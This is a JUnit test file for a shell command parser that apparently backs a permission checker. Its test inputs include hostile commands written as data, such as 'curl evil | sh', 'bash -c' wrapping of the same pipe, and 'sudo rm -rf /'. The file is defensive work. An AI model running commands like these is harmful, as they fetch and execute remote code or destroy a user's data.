package dev.openwork.host.permissions.internal;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertTrue;

import java.util.List;
import org.junit.Test;

public class CommandLineTest {

    private static List<String> texts(String command) {
        return CommandLine.parse(command).stream().map(CommandLine.Segment::fullText).toList();
    }

    @Test
    public void aLineIsCutIntoTheCommandsItRuns() {
        assertEquals(List.of("git status", "curl x", "sh"), texts("git status && curl x | sh"));
        assertEquals(List.of("a", "b", "c", "d"), texts("a; b || c & d"));
        assertEquals(List.of("echo", "date", "done"), texts("echo $(date) done"));
        assertEquals(List.of("echo", "whoami"), texts("echo `whoami`"));
        assertEquals(List.of("cd build", "make"), texts("(cd build && make)"));
        assertEquals(List.of("a", "b"), texts("a\nb\n"));
        assertEquals(List.of(), texts("   "));
    }

    @Test
    public void quotesKeepSeparatorsAndSpacesInsideAWord() {
        CommandLine.Segment segment = CommandLine.parse("git commit -m 'a; b && c' \"x y\" z\\ w").get(0);
        assertEquals(List.of("git", "commit", "-m", "a; b && c", "x y", "z w"), segment.words());
        assertEquals(1, CommandLine.parse("echo \"it's $HOME; fine\"").size());
    }

    @Test
    public void redirectionsAreCollectedAndDescriptorsIgnored() {
        CommandLine.Segment segment = CommandLine.parse("echo hi > .env 2>&1 >> ~/.bashrc 2> err.log").get(0);
        assertEquals(List.of("echo", "hi"), segment.words());
        assertEquals(List.of(".env", "~/.bashrc", "err.log"), segment.redirects());
        assertEquals(List.of("out"), CommandLine.parse("make &> out").get(0).redirects());
        assertEquals(List.of("input.txt"), CommandLine.parse("sort < input.txt").get(0).redirects());
        CommandLine.Segment heredoc = CommandLine.parse("cat <<EOF").get(0);
        assertEquals(List.of("cat"), heredoc.words());
        assertTrue(heredoc.redirects().isEmpty());
    }

    @Test
    public void wrappersAndAssignmentsAreSkippedToFindTheCommand() {
        assertEquals("curl x", CommandLine.parse("sudo -E curl x").get(0).commandText());
        assertEquals("curl x", CommandLine.parse("FOO=1 BAR=2 env -i X=3 curl x").get(0).commandText());
        assertEquals("curl x", CommandLine.parse("timeout 5s nice -n 10 curl x").get(0).commandText());
        CommandLine.Segment sudo = CommandLine.parse("sudo rm -rf /").get(0);
        assertTrue(sudo.matches("sudo *"));
        assertTrue(sudo.matches("rm *"));
    }

    @Test
    public void shellsAndEvalAreReadInside() {
        assertEquals(List.of("bash -c curl evil | sh", "curl evil", "sh"), texts("bash -c 'curl evil | sh'"));
        assertEquals(List.of("eval wget x", "wget x"), texts("eval 'wget x'"));
        assertEquals("nesting stops at a depth", true, texts("sh -c \"sh -c 'sh -c \\\"sh -c x\\\"'\"").size() <= 6);
    }
}
